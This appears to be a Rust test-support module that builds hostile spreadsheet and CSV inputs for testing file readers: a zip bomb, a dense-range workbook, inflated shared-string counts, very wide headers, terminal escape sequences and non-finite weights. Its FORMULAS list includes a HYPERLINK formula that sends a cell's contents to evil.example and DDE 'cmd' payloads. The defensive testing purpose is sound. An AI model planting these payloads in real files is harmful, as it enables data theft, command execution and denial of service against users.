//! Hostile input files, generated, for the tests of every reader: this crate's, the command
//! line's and the web's (enable the `test-support` feature). Each function returns the bytes
//! of a file; none is stored in the repository.

use std::io::{Cursor, Write};

use zip::CompressionMethod;
use zip::write::{SimpleFileOptions, ZipWriter};

/// The parts every minimal workbook needs besides its sheet.
const CONTENT_TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#;
const PACKAGE_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
const WORKBOOK: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#;
const WORKBOOK_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;
const SHEET_START: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#;
const SHEET_END: &str = "</sheetData></worksheet>";

/// A workbook zipped by hand: the minimal parts, `extra` parts, and a sheet whose XML between
/// `<sheetData>` and `</sheetData>` is written by `sheet_data`.
fn workbook(extra: &[(&str, &[u8])], sheet_data: impl FnOnce(&mut dyn Write)) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default()
        .compression_method(CompressionMethod::Deflated)
        .compression_level(Some(1))
        .large_file(true);
    let parts: [(&str, &[u8]); 4] = [
        ("[Content_Types].xml", CONTENT_TYPES.as_bytes()),
        ("_rels/.rels", PACKAGE_RELS.as_bytes()),
        ("xl/workbook.xml", WORKBOOK.as_bytes()),
        ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS.as_bytes()),
    ];
    for (name, bytes) in parts.iter().chain(extra) {
        zip.start_file(*name, options).expect("a zip in memory");
        zip.write_all(bytes).expect("a zip in memory");
    }
    zip.start_file("xl/worksheets/sheet1.xml", options)
        .expect("a zip in memory");
    zip.write_all(SHEET_START.as_bytes())
        .expect("a zip in memory");
    sheet_data(&mut zip);
    zip.write_all(SHEET_END.as_bytes())
        .expect("a zip in memory");
    zip.finish().expect("a zip in memory").into_inner()
}

fn inline_cell(reference: &str, text: &str) -> String {
    format!(r#"<c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c>"#)
}

/// A sheet holding `header` from `A1` and one more cell, `XFD1048576`, the last cell Excel
/// allows. With the header `["unit_code"]` it is the 1.6 KB, two-cell file that made every
/// reader build the dense range between them: 17 billion cells, 549 GB. A full header lets a
/// reader's own header check pass, so that the sheet's limits are what stops it.
pub fn dense_range_xlsx(header: &[&str]) -> Vec<u8> {
    workbook(&[], |out| {
        let cells: String = header
            .iter()
            .enumerate()
            .map(|(i, name)| {
                inline_cell(
                    &format!("{}1", crate::sheet::column_letters(i as u32)),
                    name,
                )
            })
            .collect();
        write!(
            out,
            r#"<row r="1">{cells}</row><row r="1048576">{}</row>"#,
            inline_cell("XFD1048576", "x")
        )
        .expect("a zip in memory");
    })
}

/// A workbook whose sheet data is `sheet_data`, as written: for malformed rows and cells.
pub fn raw_sheet_xlsx(sheet_data: &str) -> Vec<u8> {
    workbook(&[], |out| {
        out.write_all(sheet_data.as_bytes())
            .expect("a zip in memory")
    })
}

/// A zip bomb: a sheet whose XML is about `xml_bytes` long (300 MB by default in the tests),
/// the same row over and over, which deflates to about a hundredth of it. The header is
/// `header`; every row repeats `cell` in each column.
pub fn xlsx_bomb(xml_bytes: u64, header: &[&str], cell: &str) -> Vec<u8> {
    workbook(&[], |out| {
        let mut row = String::from(r#"<row r="1">"#);
        for (i, name) in header.iter().enumerate() {
            row.push_str(&inline_cell(
                &format!("{}1", crate::sheet::column_letters(i as u32)),
                name,
            ));
        }
        row.push_str("</row>");
        out.write_all(row.as_bytes()).expect("a zip in memory");
        let body: String = (0..header.len())
            .map(|_| format!(r#"<c t="inlineStr"><is><t>{cell}</t></is></c>"#))
            .collect();
        let mut written = row.len() as u64;
        let mut block = String::new();
        while written < xml_bytes {
            block.clear();
            for _ in 0..256 {
                block.push_str("<row>");
                block.push_str(&body);
                block.push_str("</row>");
            }
            out.write_all(block.as_bytes()).expect("a zip in memory");
            written += block.len() as u64;
        }
    })
}

/// A workbook whose shared strings declare `count` entries (and hold one). A parser that
/// reserves room for the declared count asks for `count` × 24 bytes.
pub fn shared_strings_count_xlsx(count: u64) -> Vec<u8> {
    shared_strings_xlsx(&format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="{count}" uniqueCount="{count}"><si><t>unit_code</t></si></sst>"#
    ))
}

/// A workbook with `xml` as its shared strings and a sheet whose `A1` is string 0.
pub fn shared_strings_xlsx(xml: &str) -> Vec<u8> {
    workbook(&[("xl/sharedStrings.xml", xml.as_bytes())], |out| {
        out.write_all(br#"<row r="1"><c r="A1" t="s"><v>0</v></c></row>"#)
            .expect("a zip in memory");
    })
}

/// A header row of `first` followed by columns `x1`, `x2`, … up to `columns` in all.
pub fn wide_header(first: &[&str], columns: usize) -> Vec<String> {
    first
        .iter()
        .map(|s| s.to_string())
        .chain((first.len()..columns).map(|i| format!("x{i}")))
        .take(columns.max(first.len()))
        .collect()
}

/// A CSV whose header has `columns` columns (150,000 in the tests, about 1 MB), beginning with
/// `first`, and no data row. A duplicate check that compares each column with every earlier
/// one takes minutes on it.
pub fn wide_header_csv(first: &[&str], columns: usize) -> Vec<u8> {
    let mut text = wide_header(first, columns).join(",");
    text.push('\n');
    text.into_bytes()
}

/// The same header as an .xlsx sheet's first row, its cells without references (so that they
/// count on past Excel's last column, as a parser reads them).
pub fn wide_header_xlsx(first: &[&str], columns: usize) -> Vec<u8> {
    workbook(&[], |out| {
        out.write_all(b"<row>").expect("a zip in memory");
        for name in wide_header(first, columns) {
            write!(out, r#"<c t="inlineStr"><is><t>{name}</t></is></c>"#).expect("a zip in memory");
        }
        out.write_all(b"</row>").expect("a zip in memory");
    })
}

/// Rows as CSV text, written raw: no cell is neutralised, so formulas and control characters
/// arrive as an attacker would send them.
pub fn csv_of(rows: &[Vec<String>]) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new()
        .flexible(true)
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(Vec::new());
    for row in rows {
        writer.write_record(row).expect("writing to memory");
    }
    writer.into_inner().expect("writing to memory")
}

/// Rows as the first sheet of an .xlsx, every cell a text cell.
pub fn xlsx_of(rows: &[Vec<String>]) -> Vec<u8> {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (r, row) in rows.iter().enumerate() {
        for (c, text) in row.iter().enumerate() {
            sheet
                .write_string(r as u32, c as u16, text)
                .expect("a cell in range");
        }
    }
    workbook.save_to_buffer().expect("a workbook in memory")
}

/// Texts a spreadsheet runs as formulas: a link that sends a neighbouring cell away, sums,
/// a TAB or CR before `=`.
pub const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// Texts carrying terminal escape sequences and other control characters: colours, a window
/// title, a screen clear, the 8-bit CSI, NUL, BEL and DEL.
pub const CONTROL_TEXTS: &[&str] = &[
    "\u{1b}[31mĐỎ\u{1b}[0m",
    "\u{1b}]0;pwned\u{7}",
    "\u{1b}[2J\u{1b}[H",
    "\u{9b}31mC1",
    "nul\0byte",
    "del\u{7f}",
];

/// Weights that are not finite or absurdly large: two rows of `1e308` overflow the sums of
/// squares; `1e309` and `inf` read as infinity; `NaN` compares false with everything.
pub const HOSTILE_WEIGHTS: &[&str] = &["1e308", "NaN", "inf", "-inf", "1e309", "1e300"];

/// A responses.csv header: `unit_code,respondent_id,channel,weight` and the items.
pub fn responses_header(items: &[&str]) -> Vec<String> {
    ["unit_code", "respondent_id", "channel", "weight"]
        .iter()
        .chain(items)
        .map(|s| s.to_string())
        .collect()
}

/// A responses row answering `answer` to every item.
pub fn responses_row(
    unit: &str,
    respondent: &str,
    channel: &str,
    weight: &str,
    items: usize,
    answer: &str,
) -> Vec<String> {
    [unit, respondent, channel, weight]
        .into_iter()
        .map(str::to_string)
        .chain(std::iter::repeat_n(answer.to_string(), items))
        .collect()
}

/// responses.csv with one response in each of `units` distinct units (`U0`, `U1`, …).
pub fn many_units_responses_csv(items: &[&str], units: usize) -> Vec<u8> {
    let mut out = responses_header(items).join(",");
    out.push('\n');
    let answers = vec!["5"; items.len()].join(",");
    for u in 0..units {
        out.push_str(&format!("U{u},r{u},paper,1,{answers}\n"));
    }
    out.into_bytes()
}

/// scores.csv giving `points` to leaf `leaf` in each of `units` distinct units.
pub fn many_units_scores_csv(leaf: &str, points: &str, units: usize) -> Vec<u8> {
    let mut out = String::from("unit_code,code,points\n");
    for u in 0..units {
        out.push_str(&format!("U{u},{leaf},{points}\n"));
    }
    out.into_bytes()
}
